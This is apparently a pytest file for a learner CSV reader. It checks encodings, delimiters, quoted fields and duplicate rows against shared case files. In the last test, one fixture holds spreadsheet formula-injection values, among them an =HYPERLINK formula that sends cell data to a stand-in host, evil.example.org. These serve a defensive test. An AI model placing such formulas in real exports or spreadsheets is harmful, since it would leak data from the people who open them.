"""The learner file reader against the shared real-world case files.

Each file in ../shared/cases/ is read twice: from the shared folder, as the
README of that folder asks, and from the byte-for-byte copy under cases/ here,
so the tests still run in a checkout that has only this repository.
"""

from __future__ import annotations

import functools
from collections.abc import Callable
from pathlib import Path

import pytest

from karma.lib.spreadsheets import LearnerFile, read_learner_file

FIVE_MB = 5 * 1024 * 1024

LOCAL_CASES = Path(__file__).parent / "cases"
SHARED_CASES = (Path(__file__).parents[3] / ".." / "shared" / "cases").resolve()

CASE_FILES = sorted(path.name for path in LOCAL_CASES.glob("case-*"))

ReadCase = Callable[[str], LearnerFile]


@pytest.fixture(params=["repository copy", "shared folder"])
def cases_dir(request: pytest.FixtureRequest) -> Path:
    if request.param == "repository copy":
        return LOCAL_CASES
    if not SHARED_CASES.is_dir():
        pytest.skip("the shared cases folder is not next to this checkout")
    return SHARED_CASES


@functools.cache
def read_path(path: Path) -> LearnerFile:
    return read_learner_file(path.read_bytes(), filename=path.name, max_bytes=FIVE_MB)


@pytest.fixture
def read_case(cases_dir: Path) -> ReadCase:
    return lambda name: read_path(cases_dir / name)


def people(learners: LearnerFile) -> list[tuple[int, str, str, str]]:
    return [
        (row.line, row.email, row.first_name, row.last_name) for row in learners.rows
    ]


def test_copies_match_the_shared_cases_byte_for_byte() -> None:
    if not SHARED_CASES.is_dir():
        pytest.skip("the shared cases folder is not next to this checkout")
    shared = sorted(path.name for path in SHARED_CASES.glob("case-*"))
    assert shared == CASE_FILES
    for name in shared:
        assert (LOCAL_CASES / name).read_bytes() == (SHARED_CASES / name).read_bytes()


def test_every_case_file_has_its_own_test() -> None:
    tested = {
        "case-" + name.removeprefix("test_reads_case_")
        for name in globals()
        if name.startswith("test_reads_case_")
    }
    assert {"-".join(name.split("-")[:2]) for name in CASE_FILES} == tested


@pytest.mark.parametrize("name", CASE_FILES)
def test_reads_every_case_with_valid_rows_and_no_stray_characters(
    read_case: ReadCase, name: str
) -> None:
    learners = read_case(name)

    assert learners.has_header
    assert learners.rows
    for row in learners.rows:
        for value in (row.email, row.first_name, row.last_name):
            assert not value.endswith(("\r", "\n", " "))
            assert "\ufeff" not in value
        assert row.email == row.email.strip().lower()


def test_reads_case_01(read_case: ReadCase) -> None:
    learners = read_case("case-01-utf8-bom.csv")

    assert people(learners) == [(2, "ana.silva@example.com", "Ana", "Silva")]
    assert learners.encoding == "utf-8-sig"
    assert learners.warnings == []
    assert learners.ignored_columns == []


def test_reads_case_02(read_case: ReadCase) -> None:
    learners = read_case("case-02-semicolon-delimiter.csv")

    assert learners.delimiter == ";"
    assert people(learners) == [
        (2, "jana.novak@example.com", "Jana", "Novak"),
        (3, "piet.devries@example.com", "Piet", "de Vries, Jr."),
    ]
    for row in learners.rows:
        assert ";" not in row.raw_email + row.email + row.first_name + row.last_name


def test_reads_case_04(read_case: ReadCase) -> None:
    learners = read_case("case-04-utf16le-tab.csv")

    assert learners.delimiter == "\t"
    assert learners.encoding == "utf-16-le"
    assert learners.warnings == []
    assert people(learners) == [
        (2, "agnes.muller@example.com", "Agnès", "Müller"),
        (3, "kenji.sato@example.com", "Kenji", "Satō"),
    ]


def test_reads_case_05(read_case: ReadCase) -> None:
    learners = read_case("case-05-header-synonyms.csv")

    assert learners.email_column == 2
    assert people(learners) == [
        (2, "liam.okafor@example.com", "Liam", "Okafor"),
        (3, "sofia.rossi@example.com", "Sofia", "Rossi"),
    ]


def test_reads_case_07(read_case: ReadCase) -> None:
    learners = read_case("case-07-duplicate-rows.csv")

    assert [(row.line, row.email) for row in learners.rows] == [
        (2, "omar.haddad@example.com"),
        (3, "omar.haddad@example.com"),
        (4, "omar.haddad@example.com"),
        (5, "lucy.kim@example.com"),
    ]
    assert [row.raw_email for row in learners.rows[:3]] == [
        "omar.haddad@example.com",
        "OMAR.HADDAD@example.com",
        "omar.haddad@example.com ",
    ]
    assert all(row.email_error is None for row in learners.rows)


def test_reads_case_08(read_case: ReadCase) -> None:
    learners = read_case("case-08-blank-lines.csv")

    assert people(learners) == [
        (3, "ken.ito@example.com", "Ken", ""),
        (7, "rosa.diaz@example.com", "Rosa", ""),
    ]
    assert learners.warnings == []


def test_reads_case_09(read_case: ReadCase) -> None:
    learners = read_case("case-09-quoted-fields.csv")

    assert people(learners) == [
        (2, "sean.obrien@example.com", "Seán", "O'Brien, Jr."),
        (3, "ali.valiev@example.com", "Ali Jon", "Valiev"),
        # Line 4 is the second half of Ali's quoted first name.
        (5, "kate.doe@example.com", 'Kate "KD"', "Doe"),
    ]
    assert learners.warnings == []


def test_reads_case_11(read_case: ReadCase) -> None:
    learners = read_case("case-11-mixed-line-endings.csv")

    assert people(learners) == [
        (2, "mei.chen@example.com", "Mei", ""),
        (3, "raj.patel@example.com", "Raj", ""),
        (4, "lena.fischer@example.com", "Lena", ""),
    ]
    for row in learners.rows:
        assert "\r" not in row.raw_email + row.first_name + row.last_name


def test_reads_case_13(read_case: ReadCase) -> None:
    learners = read_case("case-13-extra-columns.csv")

    assert people(learners) == [
        (2, "yuki.nakamura@example.com", "Yuki", "Nakamura"),
        (3, "chris.brown@example.com", "Chris", "Brown"),
        (4, "arjun.singh@example.com", "Arjun", "Singh"),
    ]
    # The unnamed columns hold nothing in any row, so only "Notes" is worth
    # telling the person about.
    assert learners.ignored_columns == ["Notes"]


def test_reads_case_15(cases_dir: Path) -> None:
    data = (cases_dir / "case-15-large-file.csv").read_bytes()

    learners = read_learner_file(data, max_bytes=FIVE_MB)

    assert len(learners.rows) == 10_000
    invalid = [row for row in learners.rows if row.email_error is not None]
    assert [(row.line, row.raw_email) for row in invalid] == [
        (7777, "learner07776.example.com")
    ]
    assert "@" in invalid[0].email_error
    assert learners.rows[0].line == 2
    assert learners.rows[-1].line == 10_001


def test_reads_case_17(read_case: ReadCase) -> None:
    learners = read_case("case-17-row-report.csv")

    assert [(row.line, row.email, row.email_error) for row in learners.rows] == [
        (2, "known.user@example.com", None),
        (3, "unknown.person@example.org", None),
        (4, "not-an-email", "An email address must have an @-sign."),
        (5, "known.user@example.com", None),
    ]


def test_reads_case_18(read_case: ReadCase) -> None:
    learners = read_case("case-18-formula-injection.csv")

    assert people(learners) == [
        (
            2,
            "mallory@example.org",
            '=HYPERLINK("http://evil.example.org/?d="&A1,"open")',
            "Smith",
        ),
        (3, "eve@example.org", "+SUM(1+1)", "@cmd"),
        # The tab was quoted into the cell on purpose; exports must see it.
        (4, "dan@example.org", "-2+3", "\t=1+1"),
    ]
